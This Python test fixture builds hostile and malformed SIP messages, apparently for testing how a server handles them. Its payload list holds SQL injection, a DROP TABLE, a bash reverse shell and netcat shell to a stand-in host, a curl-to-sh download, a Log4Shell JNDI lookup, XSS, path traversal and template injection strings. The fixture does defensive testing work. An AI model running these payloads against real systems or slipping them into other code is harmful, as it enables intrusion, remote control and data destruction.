"""Hostile and malformed messages, each from an address of its own."""

from __future__ import annotations

import random
from typing import Final

from mix import Traffic

#: One of each kind, in places where clients have names, users and texts.
_NAMES: Final = (
    "x' UNION SELECT password FROM subscriber WHERE '1'='1", "UPDATE users SET password='1' WHERE username='admin'",
    "bash -i >& /dev/tcp/192.0.2.66/4444 0>&1", "$(curl http://192.0.2.66/x|sh)", "<script>fetch('//192.0.2.66')</script>",
    "../../../../etc/passwd", "${jndi:ldap://192.0.2.66/a}", "{{7*7}}{{config.items()}}", "*)(uid=*))(|(uid=*", "'; DROP TABLE cdr; --",
    "<img src=x onerror=alert(1)>", "`id`; wget 192.0.2.66/m", "1;exec xp_cmdshell('whoami')", "%27%20or%201%3D1--", "a|nc 192.0.2.66 99 -e /bin/sh",
)  # fmt: skip
_TRAFFIC: Final = Traffic(seed=9, subscribers=600)
_BASE: Final = [
    one.raw for one in _TRAFFIC.requests(0, 1200) if one.method in ("INVITE", "REGISTER", "OPTIONS", "SUBSCRIBE")
]


def address(number: int) -> str:
    """The numberth of sixteen million addresses that nothing else here uses."""
    number = number % (100 * 250 * 250)
    return f"127.{100 + number // 62500}.{number // 250 % 250}.{number % 250 + 1}"


def hostile(number: int) -> tuple[str, bytes]:
    """A client's message with an attack in it."""
    r = random.Random(number)
    raw = r.choice(_BASE)
    text = r.choice(_NAMES).encode()
    place = r.randrange(4)
    lines = raw.split(b"\r\n")
    if place == 3:
        lines.insert(4, b"Subject: " + text)
        lines.insert(4, b"X-Note: " + text)
    at = next(
        i
        for i, line in enumerate(lines)
        if line[:5].lower() in (b"from:", b"f: <s", b'f: "') or line.lower().startswith((b"from:", b"f:"))
    )
    if place < 3:
        tail = lines[at][lines[at].rfind(b"<") :]
        lines[at] = b'From: "' + text.replace(b"\\", b"").replace(b'"', b"'") + b'" ' + tail
    made = b"\r\n".join(lines)
    # No two are the same message.
    return address(number), made.replace(b"branch=z9hG4bK", b"branch=z9hG4bK%x." % number, 1)


def malformed(number: int) -> tuple[str, bytes]:
    """A message that no server should route."""
    r = random.Random(number)
    raw = r.choice(_BASE)
    kind = r.randrange(5)
    if kind == 0:
        raw = raw.replace(b"\r\nCSeq:", b"\r\nCSeq", 1).replace(b"\r\nCseq:", b"\r\nCseq", 1)
    elif kind == 1:
        raw = raw.replace(b"\r\nTo:", b"\r\nTo\x01:", 1)
    elif kind == 2:
        raw = raw.replace(b"Content-Length:", b"Content-Length: 7\r\nContent-Length:", 1)
    elif kind == 3:
        raw = raw[: raw.rfind(b"\r\n\r\n") - 7]
    else:
        raw = raw.replace(b"sip:", b"sip\x00:", 2)
    return address(number + 3_000_000), raw
